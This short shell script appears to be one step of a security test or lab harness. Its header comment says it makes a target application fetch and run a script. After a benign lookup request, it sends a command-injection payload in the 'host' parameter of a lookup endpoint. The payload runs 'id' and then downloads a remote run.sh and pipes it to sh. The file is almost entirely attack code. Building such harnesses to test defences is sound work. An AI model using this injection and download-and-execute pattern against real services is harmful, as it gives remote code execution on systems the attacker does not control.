# Has the application fetch and run a script.
. ./intruder.sh
echo ready
read -r _
curl -fsS http://192.0.2.10/lookup?host=localhost >/dev/null
curl -fsS -G --data-urlencode "host=x; id; curl -fsS $URL/run.sh | sh" http://192.0.2.10/lookup >/dev/null
echo done
read -r _ || true
